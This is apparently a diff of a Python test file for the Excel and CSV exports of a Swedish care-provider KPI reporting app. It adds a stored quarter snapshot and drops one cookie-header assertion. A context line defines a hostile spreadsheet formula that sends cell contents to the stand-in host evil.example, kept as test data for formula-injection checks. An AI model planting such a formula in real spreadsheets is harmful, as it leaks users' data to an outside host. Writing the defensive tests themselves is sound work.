@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from foljsam.monthly import exports
 from foljsam.monthly.engine.kpis import CATALOGUE
-from foljsam.monthly.models import KpiSnapshot
+from foljsam.monthly.models import KpiSnapshot, QuarterSnapshot
 from foljsam.registry.models import Contract, ContractForm, Ownership, Provider
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
@@ -42,6 +42,10 @@ def quarter(world):
     _snap(world.provider_a, "2026-01", manual_share=0.2)
     _snap(world.provider_a, "2026-02")
     _snap(world.provider_b, "2026-02", manual_share=0.01)
+    # The quarter's figures come from the engine over the quarter's rows (services.quarter_figures); here
+    # they are stored as the engine would, so that this test is about the rendering.
+    QuarterSnapshot.objects.create(provider=world.provider_a, quarter="2026-Q1", periods=[],
+                                   values=_values(world.provider_a, visits=2468, manual_share=0.105))
     return world
 
 
@@ -70,7 +74,7 @@ def test_excel_holds_numbers_with_formats_fills_and_a_status_column(quarter, cli
     assert beta[_column(ws, "Andel manuella registreringar") - 1].value is None
     assert beta[_column(ws, "Andel manuella registreringar – status") - 1].value == "Ingen data"
     assert not any(c.fill.fgColor.rgb.endswith(("FBD9D7", "FFF1B8", "D8F0DC")) for c in beta)
-    # The quarter sums visits and weighs shares (numbers, so Excel can sum and sort them).
+    # The quarter's figures are numbers too, so Excel can sum and sort them.
     q = _row(wb["Kvartalet"], "Alfa Omsorg AB")
     assert q[_column(wb["Kvartalet"], "Besök") - 1].value == 2468
     assert q[_column(wb["Kvartalet"], "Andel manuella registreringar") - 1].value == pytest.approx(0.105)
@@ -113,7 +117,6 @@ def test_download_name_with_a_newline_or_quote_in_the_provider_code(world, clien
         assert response.status_code == 200
         disposition = response["Content-Disposition"]
         assert "\n" not in disposition and "\r" not in disposition and disposition.count('"') == 2
-        assert "Set-Cookie" not in response.headers or "x=1" not in response.headers.get("Set-Cookie", "")
         assert disposition.endswith(f".{fmt}")
 
 
